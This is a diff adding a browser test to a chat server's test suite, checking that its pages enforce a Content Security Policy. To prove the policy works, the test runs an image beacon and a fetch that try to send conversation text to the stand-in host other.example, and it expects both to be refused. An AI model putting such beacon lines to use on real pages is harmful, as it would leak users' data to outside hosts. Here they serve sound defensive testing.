@@ -85,6 +85,28 @@ describe('npx confab-chat serve', () => {
     expect(await (await fetch(address)).text()).toContain(`id="${address.hash.slice(1)}"`)
   })
 
+  test('serves pages that run nothing but their own script and reach nobody but their server', async () => {
+    const page = await (await sharedBrowser()).newPage()
+    onTestFinished(() => page.close())
+    const refused: string[] = []
+    await page.exposeFunction('tellRefused', (directive: string, uri: string) => refused.push(`${directive} ${uri}`))
+    await page.addInitScript(`addEventListener('securitypolicyviolation', (event) =>
+      tellRefused(event.effectiveDirective, event.blockedURI))`)
+    await page.goto(served.url)
+    await page.locator('confab-chat [part~="input"]').waitFor()
+    await ask(page, 'how do I stop a stream?')
+    await answerIn(page).getByRole('link', { name: 'Stop a stream' }).waitFor()
+    await page.goto(`${served.url}api/documentation`)
+    await page.getByRole('heading').first().waitFor()
+    expect(await page.evaluate(`getComputedStyle(document.body).maxWidth`)).not.toBe('none')
+    await page.goto(served.url)
+    // None of what was done so far is refused, and this is.
+    await page.evaluate(`new Image().src = 'https://other.example/?what=they-said'`)
+    await expect.poll(() => refused).toEqual(['img-src https://other.example/?what=they-said'])
+    await page.evaluate(`fetch('https://other.example/').catch(() => undefined)`)
+    await expect.poll(() => refused.at(-1)).toBe('connect-src https://other.example/')
+  })
+
   test('says where it serves, who answers and where conversations are kept', () => {
     expect(served.said).toContain('from the documentation')
     expect(served.said).toContain('confab.db')
